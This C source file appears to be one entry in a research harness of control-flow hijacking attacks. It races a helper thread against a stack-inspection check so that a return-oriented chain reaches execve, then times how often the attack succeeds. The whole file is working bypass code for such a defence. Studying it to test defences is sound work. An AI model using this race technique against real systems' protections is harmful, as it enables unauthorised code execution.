// Two threads: attack 18. One makes the call with a stack that is wrong in one word; the other sets it right while the verdict is made.
#include "hijack.h"
#include <pthread.h>
#include <time.h>

static volatile int begun;
static word right_word;
static long delay_microseconds;

// The hop before the last: from here on it is a few instructions to the call.
static NOINLINE void begin(void) { begun = 1; }

static long microseconds(void) {
  struct timespec now;
  clock_gettime(CLOCK_MONOTONIC, &now);
  return now.tv_sec * 1000000 + now.tv_nsec / 1000;
}

static void *tidy(void *unused) {
  while (!begun) continue;
  long until = microseconds() + delay_microseconds;
  while (microseconds() < until) continue;
  ((volatile word *)joint)[0] = right_word;
  ((volatile word *)joint)[-1] = 0; // that execve was returned into
  return unused;
}

static int try_once(void) {
  pid_t child = fork();
  if (child == 0) {
    pthread_t thread;
    if (pthread_create(&thread, NULL, tidy, NULL) != 0) _exit(3);
    right_word = *(word *)joint;
    load_command();
    end_at(joint + 8);
    add((word)begin);
    add(execve_entry());
    add(pop_gadget(RDI)); // no call leads here
    strike();
  }
  int status;
  return child > 0 && waitpid(child, &status, 0) == child && WIFEXITED(status) && WEXITSTATUS(status) == 0;
}

static void race(void) {
  static const long delays[] = {1, 10, 30, 100, 300, 1000, 10000};
  enum { TRIES = 10 };
  for (size_t n = 0; n < LENGTH(delays); n++) {
    delay_microseconds = delays[n];
    int succeeded = 0;
    for (int again = 0; again < TRIES; again++) succeeded += try_once();
    printf("%s%ld µs: %d of %d", n ? ", " : "tidied after ", delays[n], succeeded, TRIES);
    fflush(stdout);
  }
  printf("\n");
}

const struct attack race_attacks[] = {{"race", race}, {NULL, NULL}};
